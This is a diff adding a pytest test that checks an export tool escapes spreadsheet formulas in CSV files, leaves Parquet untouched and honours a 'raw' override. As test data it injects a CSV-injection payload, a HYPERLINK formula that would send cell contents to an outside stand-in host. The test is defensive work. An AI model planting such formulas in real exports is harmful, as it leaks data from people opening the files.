@@ -162,3 +162,27 @@ def test_full_disk_keeps_the_old_files(exports: Path, egress: Egress, sql: Sql, 
     assert names[2] == hashlib.sha256(old).hexdigest()
     assert egress("run", "--target", "files") == 0
     assert pq.read_metadata(exports / NAMES[0]).num_rows == CUSTOMERS + 30000
+
+
+def test_csv_begins_no_formula_unless_it_is_told_to(
+    exports: Path, egress: Egress, sql: Sql, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A text that a spreadsheet would run is escaped in the CSV file alone; `raw` writes it as it is, and once."""
+    formula = '=HYPERLINK("http://example.com/"&A1)'
+    sql(f"update egress.customer_360 set surname = '{formula}', lifetime_sales = -3.5 where entity_id = 'E-3'")
+
+    def surnames() -> tuple[str, str, str]:
+        with (exports / NAMES[1]).open(newline="") as file:
+            row = list(csv.DictReader(file))[3]
+        return row["surname"], row["lifetime_sales"], pq.read_table(exports / NAMES[0]).to_pylist()[3]["surname"]
+
+    assert egress("run", "--target", "files") == 0
+    assert surnames() == (f"'{formula}", "-3.50", formula)
+    before = {file.name: file.stat().st_ino for file in exports.iterdir()}
+    assert egress("run", "--target", "files") == 0
+    assert {file.name: file.stat().st_ino for file in exports.iterdir()} == before, "an escape is no change"
+    monkeypatch.setenv("FILES_CSV_TEXT", "raw")
+    assert egress("run", "--target", "files") == 0
+    assert surnames() == (formula, "-3.50", formula)
+    after = {file.name: file.stat().st_ino for file in exports.iterdir()}
+    assert (after[NAMES[0]] == before[NAMES[0]], after[NAMES[1]] == before[NAMES[1]]) == (True, False)
